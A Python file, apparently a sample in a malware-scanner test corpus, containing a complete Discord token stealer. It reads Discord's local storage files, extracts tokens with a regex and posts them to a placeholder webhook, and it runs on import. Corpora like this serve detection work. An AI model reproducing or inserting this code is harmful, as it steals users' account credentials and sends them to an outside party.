# pkgguard corpus 201 (discord-token), modelled on [discordpydebug]; inert, never run.
import asyncio
import glob
import os
import re

import aiohttp

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholderplaceholderplaceholder"
TOKEN = re.compile(rb"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")


async def main():
    found = set()
    pattern = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb", "*.ldb")
    for path in glob.glob(pattern):
        with open(path, "rb") as f:
            found.update(m.decode() for m in TOKEN.findall(f.read()))
    async with aiohttp.ClientSession() as session:
        await session.post(HOOK, json={"content": "\n".join(found)})


asyncio.run(main())
